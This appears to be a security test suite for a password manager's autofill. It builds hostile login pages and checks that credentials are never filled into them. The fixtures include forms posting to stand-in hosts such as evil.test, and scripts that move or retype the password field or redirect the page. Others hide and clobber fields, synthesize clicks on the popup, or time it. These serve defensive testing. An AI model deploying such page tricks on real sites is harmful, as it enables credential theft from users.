// Group A of the catalogue, in the page: forms that send elsewhere, fields that hide, swap or clobber, and scripts that
// act between the choice and the fill. Then what a page can press by itself, save, or measure.

import assert from 'node:assert/strict';
import { allValues, html, LOGIN_FORM, MASTER, signIn, test } from '../harness.mjs';
import { assertEmpty, assertOnly, assertRefused, mall, SECRET, sleep, USER, visit } from './mall.mjs';

const scene = mall;
const AT = 'https://bank.test/';
const both = { user: USER, pass: SECRET };
const form = (inner, attributes = 'method="post" action="/login"') =>
  `<h1>Sign in</h1><form ${attributes}>${inner}<button>Sign in</button></form>`;
const USER_FIELD = '<label for="user">User name</label><input id="user" name="user" autocomplete="username">';
const PASS_FIELD =
  '<label for="pass">Password</label><input id="pass" name="pass" type="password" autocomplete="current-password">';
/** Acts once, as soon as the first field is touched: by the focus, or where the popup has that, by the value. */
const onTouch = (code) =>
  `<script>{ let done = false; for (const name of ['focus', 'input']) document.querySelector('#user').addEventListener(name, () => { if (done) return; done = true; ${code}; }); }</script>`;
const script = (code) => `<script>${code}</script>`;

/** A case on the bank's own page, with the page as it says. */
const onBank = (id, body, run) =>
  test(
    id,
    async ({ app, ids, browser }) => {
      const page = await visit(app, AT, typeof body === 'string' ? body : body());
      await run({ app, page, id: ids.bank, ids, browser });
    },
    { scene },
  );
const fillAll = async (app, page, id) => (await app.fill(page, { item: id })).filled;

onBank('Control of the form attacks: an honest form is filled whole', LOGIN_FORM, async ({ app, page, id }) => {
  assert.deepEqual(await fillAll(app, page, id), ['username', 'current-password']);
  await assertOnly(page, both);
});

for (const action of ['https://evil.test/take', 'http://bank.test/login'])
  onBank(
    `A07 to ${new URL(action).protocol}`,
    form(USER_FIELD + PASS_FIELD, `method="post" action="${action}"`),
    async ({ app, page, id }) => {
      const why = await assertRefused(app, page, id);
      assert.equal(why.popup, 'foreign-action', 'and the user is told why');
    },
  );

onBank(
  'A15',
  form(USER_FIELD + PASS_FIELD) +
    script(`document.addEventListener('input', ({ target }) => { if (target.id === 'pass') target.type = 'text'; });`),
  async ({ app, page, id }) => {
    await fillAll(app, page, id);
    await page.evaluate(() => {
      for (const input of document.querySelectorAll('input')) input.value = '';
    });
    assert.equal(await page.evaluate(() => document.querySelector('#pass').type), 'text');
    const again = await app.fill(page, { item: id });
    assert.ok(!again.filled.includes('current-password'), 'no password into a field that shows it');
    await assertOnly(page, again.filled.length > 0 ? { user: USER } : {});
  },
);

const HIDDEN = {
  clear: 'opacity:0',
  away: 'position:absolute;left:-5000px',
  nothing: 'width:0;height:0;padding:0;border:0',
  clipped: 'clip-path:inset(50%)',
  shrunk: 'transform:scale(0)',
  gone: 'visibility:hidden',
};
onBank(
  'A16',
  form(
    USER_FIELD +
      PASS_FIELD +
      Object.entries(HIDDEN)
        .map(
          ([name, style]) =>
            `<input id="u-${name}" autocomplete="username" style="${style}"><input id="p-${name}" type="password" autocomplete="current-password" style="${style}">`,
        )
        .join('') +
      '<div style="position:relative"><input id="covered" type="password"><div style="position:absolute;inset:0;background:#fff"></div></div>',
  ),
  async ({ app, page, id }) => {
    await fillAll(app, page, id);
    await assertOnly(page, both);
  },
);

onBank(
  'A17',
  form(
    USER_FIELD +
      PASS_FIELD +
      ['cc-number', 'cc-csc', 'cc-exp', 'cc-name', 'name', 'street-address', 'tel', 'bday', 'email', 'one-time-code']
        .map((token) => `<input id="x-${token}" autocomplete="${token}">`)
        .join(''),
  ),
  async ({ app, page, id }) => {
    await fillAll(app, page, id);
    const values = await page.evaluate(() =>
      [...document.querySelectorAll('input')].filter(({ value }) => value).map((each) => each.id),
    );
    assert.deepEqual(
      values.filter((each) => each.startsWith('x-') && each !== 'x-email'),
      [],
    );
    assert.ok(values.includes('pass'));
  },
);

onBank(
  'A18',
  form(
    `<input name="action" type="hidden"><input name="elements" type="hidden"><input name="submit" type="hidden"><input name="querySelector" type="hidden"><input name="parentNode" type="hidden"><input name="getAttribute" type="hidden"><input name="children" type="hidden">${USER_FIELD}${PASS_FIELD}`,
  ) +
    '<img name="body" alt=""><img name="documentElement" alt=""><img name="activeElement" alt=""><form name="createTreeWalker"></form>' +
    // What stands before the form is said to be what stands behind it, so that whoever believes it goes round for ever.
    '<form id="ring"></form><button form="ring" name="previousSibling"></button><button form="ring" name="nextSibling"></button><input id="round">',
  async ({ app, page, id }) => {
    assert.deepEqual(await fillAll(app, page, id), ['username', 'current-password']);
    await assertOnly(page, both);
  },
);

onBank(
  'A19',
  `${script(`
    window.caught = [];
    const spy = (object, name) => { const own = object[name]; object[name] = function (...all) { caught[caught.length] = name; return Reflect.apply(own, this, all); }; };
    for (const name of ['querySelectorAll', 'querySelector', 'createTreeWalker']) spy(Document.prototype, name);
    for (const name of ['map', 'filter', 'find', 'push']) spy(Array.prototype, name);
    spy(JSON, 'parse'); spy(JSON, 'stringify'); spy(window, 'postMessage');
    Object.defineProperty(HTMLInputElement.prototype, 'value', { get() { return ''; }, set() { caught[caught.length] = 'value'; } });
  `)}${LOGIN_FORM}`,
  async ({ app, page, id }) => {
    const before = await page.evaluate('caught.length');
    assert.deepEqual(await fillAll(app, page, id), ['username', 'current-password'], 'our world is not theirs');
    assert.equal(await page.evaluate(`caught.slice(${before}).filter((name) => name === 'value').length`), 0);
  },
);

onBank(
  'A20',
  LOGIN_FORM +
    script(`
    const again = () => {
      for (const host of document.querySelectorAll('html > [popover]')) {
        const { left, top, width, height } = host.getBoundingClientRect();
        const at = { bubbles: true, composed: true, clientX: left + width / 2, clientY: top + 30, button: 0, detail: 1, pointerId: 1, isPrimary: true };
        for (const [Kind, type] of [[PointerEvent, 'pointerdown'], [MouseEvent, 'mousedown'], [PointerEvent, 'pointerup'], [MouseEvent, 'mouseup'], [PointerEvent, 'click']]) host.dispatchEvent(new Kind(type, at));
        for (const key of ['ArrowDown', 'Enter']) host.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
        host.click(); host.focus();
      }
      requestAnimationFrame(again);
    };
    again();`),
  async ({ app, page }) => {
    // Beside the mark that a person's click brought there, the page presses without end.
    await page.click('#pass');
    await app.menu.mark(page);
    await sleep(900);
    assert.equal((await app.menu.standing(page)).filter(({ width }) => width > 60).length, 0, 'no menu opened');
    assert.equal(await app.engine.popupIsOpen(), false);
    if (app.browser === 'chromium') {
      await app.menu.open(page);
      await app.menu.of(page);
      await sleep(1_500);
    }
    await assertEmpty(app, page);
    await app.engine.closePopup();
  },
);

for (const [way, code] of Object.entries({
  replaced: `const old = document.querySelector('#pass'); const next = old.cloneNode(); old.replaceWith(next);`,
  removed: `document.querySelector('#pass').remove();`,
  'in another form': `const other = document.createElement('form'); other.action = 'https://evil.test/'; document.body.append(other); other.append(document.querySelector('#pass'));`,
  'in another document': `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentDocument.body.append(document.querySelector('#pass'));`,
}))
  onBank(`A21 ${way}`, LOGIN_FORM + onTouch(code), async ({ app, page, id }) => {
    const { filled } = await app.fill(page, { item: id });
    assert.ok(!filled.includes('current-password'));
    assert.ok(!(await allValues(page)).includes(SECRET), 'the password is in no field');
  });

test(
  'A22',
  async ({ app, ids }) => {
    app.hosts['evil.example'] = html(LOGIN_FORM);
    const page = await visit(app, AT, LOGIN_FORM + onTouch(`location.href = 'https://evil.example/'`));
    await app.fill(page, { item: ids.bank }).catch(() => undefined);
    await app.until(async () => page.url().startsWith('https://evil.example/'), 'the other page');
    await sleep(500);
    assert.deepEqual(await allValues(page), [], 'nothing came along');
  },
  { scene },
);

onBank(
  'A26',
  `${LOGIN_FORM}<form><input id="user2" autocomplete="username"><input id="pass2" type="password" autocomplete="current-password"><input id="code" autocomplete="one-time-code"></form>`,
  async ({ app, page, id }) => {
    if (app.browser === 'chromium') {
      await app.menu.open(page, '#pass');
      await app.menu.of(page);
      assert.ok(
        !(await page.evaluate(() => document.documentElement.outerHTML)).includes(USER),
        'no user name in the DOM',
      );
      await page.press('Escape');
    }
    await fillAll(app, page, id);
    const values = await allValues(page);
    assert.equal(values.filter((value) => value === SECRET).length, 1, 'one credential a gesture');
    assert.equal(await page.value('#code'), '');
  },
);

for (const [way, code] of Object.entries({
  retyped: `pass.type = 'text'`,
  swapped: `pass.replaceWith(Object.assign(document.createElement('input'), { id: 'pass' }))`,
  hidden: `pass.style.opacity = '0'`,
  redirected: `document.querySelector('form').action = 'https://evil.test/'`,
}))
  onBank(
    `A31 ${way}`,
    LOGIN_FORM +
      script(
        `document.querySelector('#user').addEventListener('input', () => { const pass = document.querySelector('#pass'); ${code}; });`,
      ),
    async ({ app, page, id }) => {
      const { filled } = await app.fill(page, { item: id });
      assert.ok(!filled.includes('current-password'), way);
      assert.ok(!(await allValues(page)).includes(SECRET));
    },
  );

onBank('A32', LOGIN_FORM + onTouch(`history.pushState(null, '', '/elsewhere')`), async ({ app, page, id }) => {
  assert.deepEqual(
    await fillAll(app, page, id),
    ['username', 'current-password'],
    'the same document of the same origin',
  );
  assert.equal(new URL(page.url()).pathname, '/elsewhere');
});

test(
  'A36',
  async ({ app, ids }) => {
    const inner = `<form><input id="user" name="username" autocomplete="username"/><input id="pass" type="password" autocomplete="current-password"/></form>`;
    const as = (type, text) => (_request, response) => response.writeHead(200, { 'content-type': type }).end(text);
    const pages = {
      '/object': html('<h1>Bank</h1><object data="/login" width="500" height="300"></object>'),
      '/embed': html('<h1>Bank</h1><embed src="/login" width="500" height="300">'),
      '/login': html(LOGIN_FORM),
      '/svg': as(
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"><foreignObject width="600" height="400"><body xmlns="http://www.w3.org/1999/xhtml">${inner}</body></foreignObject></svg>`,
      ),
      '/xml': as('application/xml', `<html xmlns="http://www.w3.org/1999/xhtml"><body>${inner}</body></html>`),
    };
    app.hosts['bank.test'] = (request, response) => (pages[request.url] ?? pages['/login'])(request, response);
    for (const path of ['object', 'embed', 'svg', 'xml']) {
      const page = await app.openPage(`${AT}${path}`);
      await sleep(300);
      const { filled } = await app.fill(page, { item: ids.bank });
      assert.deepEqual(filled, [], path);
      assert.deepEqual(await allValues(page), [], path);
      await page.close();
    }
    app.hosts['bank.test'] = html(LOGIN_FORM);
  },
  { scene },
);

test(
  'A23',
  async ({ app }) => {
    app.hosts['evil.example'] = html('<h1>Thanks</h1>');
    const page = await visit(
      app,
      'https://new-bank.test/',
      form(USER_FIELD + PASS_FIELD, 'method="post" action="https://evil.example/take"'),
    );
    await signIn(page, { '#user': 'typed', '#pass': 'typed-Secret-1' });
    await app.until(async () => (await app.offers(page)).length === 1, 'the offer');
    const [offer] = await app.offers(page);
    assert.equal(offer.origin, 'https://new-bank.test', 'the sending document’s, not the receiver’s');
    await app.dismiss(offer);
  },
  { scene },
);

onBank(
  'A24',
  LOGIN_FORM +
    script(
      `document.querySelector('form').addEventListener('submit', (event) => event.preventDefault());
      window.flood = () => { for (let n = 0; n < 1000; n += 1) { document.querySelector('#user').value = 'fake' + n; document.querySelector('#pass').value = 'fake-' + n; document.querySelector('form').requestSubmit(); document.querySelector('button').click(); } };`,
    ),
  async ({ app, page }) => {
    const before = (await app.items()).length;
    await page.evaluate('flood()');
    // Even within a person's act: the values are the page's own.
    await page.evaluate(`addEventListener('pointerdown', flood)`);
    await page.click('h1');
    await sleep(500);
    assert.deepEqual(await app.offers(page), []);
    assert.equal((await app.items()).length, before, 'and nothing was overwritten');
  },
);

onBank(
  'A34',
  LOGIN_FORM +
    script(`document.querySelector('form').addEventListener('submit', (event) => event.preventDefault());
    addEventListener('pointerdown', () => { document.querySelector('#user').value = '${USER}'; document.querySelector('#pass').value = 'a-guess'; });`),
  async ({ app, page }) => {
    // A person's own click sends what the page put there; a guess must never be offered, so that nothing can be learnt.
    for (let n = 0; n < 3; n += 1) await page.click('button');
    await sleep(500);
    assert.deepEqual(await app.offers(page), []);
    assert.deepEqual(
      await page.evaluate(() => document.querySelectorAll('html > [popover]').length),
      0,
      'and no prompt stands',
    );
  },
);

test(
  'A35',
  async ({ app }) => {
    // What the page can measure, with no login of the site, with one, with twenty, and locked: always the same.
    const measure = async () => {
      const page = await visit(app, 'https://measured.test/', LOGIN_FORM);
      await page.evaluate(() => {
        window.seen = [];
        addEventListener(
          'pointerup',
          () => {
            window.since = performance.now();
          },
          true,
        );
        new MutationObserver((records) => {
          for (const { addedNodes } of records)
            for (const node of addedNodes) {
              if (node.parentNode !== document.documentElement) continue;
              requestAnimationFrame(() => {
                const { left, top, width, height } = node.getBoundingClientRect();
                window.seen.push({
                  at: [left, top, width, height].join(),
                  ms: performance.now() - window.since,
                  html: node.outerHTML,
                });
              });
            }
        }).observe(document.documentElement, { childList: true });
      });
      await page.click('#pass');
      await app.menu.mark(page);
      if (app.browser === 'chromium') {
        await app.menu.open(page, '#pass');
        await app.menu.of(page);
      }
      await sleep(400);
      const seen = await page.evaluate('window.seen');
      await page.close();
      return seen;
    };
    const none = await measure();
    const looks = (seen) => seen.map(({ at, html: text }) => `${at} ${text}`);
    const add = (n) =>
      app.addItem({ title: `m${n}`, username: `m${n}`, password: SECRET, url: 'https://measured.test/' });
    await add(0);
    const one = await measure();
    for (let n = 1; n < 20; n += 1) await add(n);
    const twenty = await measure();
    await app.lock();
    const locked = await measure();
    await app.unlock(MASTER);
    for (const other of [one, twenty, locked]) assert.deepEqual(looks(other), looks(none), 'size and place');
    // The mark comes at its own time, not when the answer does; what is left is the machine's noise.
    const marks = [none, one, twenty, locked].map(([{ ms }]) => ms);
    for (const ms of marks) assert.ok(ms >= 115, `the mark came after ${ms} ms`);
  },
  { scene },
);
